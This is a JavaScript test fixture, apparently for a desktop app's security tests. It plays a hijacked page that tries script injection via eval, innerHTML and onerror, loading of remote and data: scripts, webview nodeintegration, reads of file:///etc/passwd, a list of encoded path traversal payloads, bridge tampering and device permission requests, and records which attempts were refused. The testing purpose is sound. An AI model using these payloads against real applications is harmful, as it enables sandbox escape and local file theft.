/* oxlint-disable no-eval, typescript/no-implied-eval -- that this does not work is what is tested */
// A page that was taken over: it tries everything and notes what worked. `target`: a server that counts who comes.
const tried = {};
const attempt = (name, work) => {
  try {
    tried[name] = work();
  } catch (cause) {
    tried[name] = `refused: ${cause.name}`;
  }
};
const later = async (name, work) => {
  tried[name] = await Promise.race([
    work().then(String, (cause) => `refused: ${cause.name ?? cause}`),
    new Promise((resolve) => setTimeout(resolve, 3000, 'refused: no answer')),
  ]);
};

window.attackAll = async (target) => {
  // What a debugger calls may evaluate; what comes later is the page's own.
  await new Promise((resolve) => setTimeout(resolve, 10));
  attempt('eval', () => eval('1 + 1'));
  attempt('Function', () => new Function('return 2')());
  setTimeout('window.timeoutRan = true', 0);
  const inline = document.createElement('script');
  inline.textContent = 'window.injectedRan = true';
  document.head.append(inline);
  const holder = document.createElement('div');
  holder.innerHTML =
    '<img src="x" onerror="window.handlerRan = \'innerHTML\'"><svg onload="window.handlerRan = \'svg\'"></svg>';
  document.body.append(holder);
  document.getElementById('javascript').click();
  const foreign = document.createElement('script');
  foreign.src = `${target}/script.js`;
  document.head.append(foreign);
  const dataScript = document.createElement('script');
  dataScript.src = 'data:text/javascript,window.dataRan = true';
  document.head.append(dataScript);
  const blobScript = document.createElement('script');
  blobScript.src = URL.createObjectURL(new Blob(['window.blobRan = true'], { type: 'text/javascript' }));
  document.head.append(blobScript);
  for (const source of [
    `${target}/frame`,
    'file:///etc/passwd',
    'data:text/html,<script>top.frameRan=1</script>',
  ]) {
    const frame = document.createElement('iframe');
    frame.src = source;
    document.body.append(frame);
  }
  const inner = document.createElement('iframe');
  inner.srcdoc = '<script>top.frameRan = true</script>';
  document.body.append(inner);
  const webview = document.createElement('webview');
  webview.setAttribute('src', `${target}/webview`);
  webview.setAttribute('nodeintegration', '');
  document.body.append(webview);
  await later('fetch', async () => (await fetch(`${target}/fetch`)).status);
  await later(
    'image',
    () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => reject(new Error('image'));
        image.src = `${target}/image.png`;
      }),
  );
  await later(
    'socket',
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace('http', 'ws'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('socket'));
      }),
  );
  await later('module', () => import(`${target}/module.js`));
  await later('worker', async () => {
    new Worker(URL.createObjectURL(new Blob(['self.postMessage(1)'])));
    return 'started';
  });
  await later('serviceWorker', async () => navigator.serviceWorker.register(`${target}/worker.js`));
  await later('localFile', async () => (await fetch('file:///etc/passwd')).status);
  for (const path of window.traversals) {
    await later(`scheme ${path}`, async () => (await fetch(`app://quayside/${path}`)).status);
  }
  await later('otherHost', async () => (await fetch('app://elsewhere/index.html')).status);
  await later('post', async () => (await fetch('app://quayside/index.html', { method: 'POST' })).status);
  attempt('window.open', () => window.open(`${target}/open`) === null);
  attempt('window.open of the page', () => window.open('app://quayside/index.html') === null);
  attempt('require', () => typeof require);
  attempt('process', () => typeof process);
  attempt('bridge', () => {
    window.quayside = { state: () => 'replaced' };
    window.quayside.state = () => 'replaced';
    return window.quayside.state === undefined || Object.isFrozen(window.quayside);
  });
  attempt('constructor', () => window.quayside.state.constructor('return typeof require')());
  return tried;
};
window.traversals = [
  '../package.json',
  '..%2fpackage.json',
  '%2e%2e/package.json',
  '%2e%2e%2fpackage.json',
  '..%5cpackage.json',
  'assets/../../package.json',
  '%252e%252e%252fpackage.json',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'C:%5cWindows%5cwin.ini',
  'link.json',
  'package.json%00.html',
  '.hidden.json',
];

window.permissionsOf = async () => {
  const ask = {};
  const settle = (name, promise) =>
    Promise.race([promise, new Promise((_, reject) => setTimeout(reject, 3000, { name: 'no answer' }))]).then(
      (value) => {
        ask[name] = typeof value === 'string' ? value : 'granted';
      },
      (cause) => {
        ask[name] = `refused: ${cause.name ?? cause.code}`;
      },
    );
  await settle('notifications', Notification.requestPermission());
  await settle(
    'geolocation',
    new Promise((resolve, reject) =>
      navigator.geolocation.getCurrentPosition(() => resolve('granted'), reject),
    ),
  );
  await settle('camera', navigator.mediaDevices.getUserMedia({ video: true }));
  await settle('screen', navigator.mediaDevices.getDisplayMedia({ video: true }));
  await settle('clipboard', navigator.clipboard.readText());
  await settle('midi', navigator.requestMIDIAccess({ sysex: true }));
  await settle(
    'usb',
    navigator.usb === undefined
      ? Promise.reject({ name: 'absent' })
      : navigator.usb.requestDevice({ filters: [] }),
  );
  await settle(
    'serial',
    navigator.serial === undefined ? Promise.reject({ name: 'absent' }) : navigator.serial.requestPort(),
  );
  for (const name of ['notifications', 'geolocation', 'camera', 'microphone', 'midi', 'clipboard-read']) {
    await settle(
      `query ${name}`,
      navigator.permissions.query({ name }).then(({ state }) => state),
    );
  }
  return ask;
};
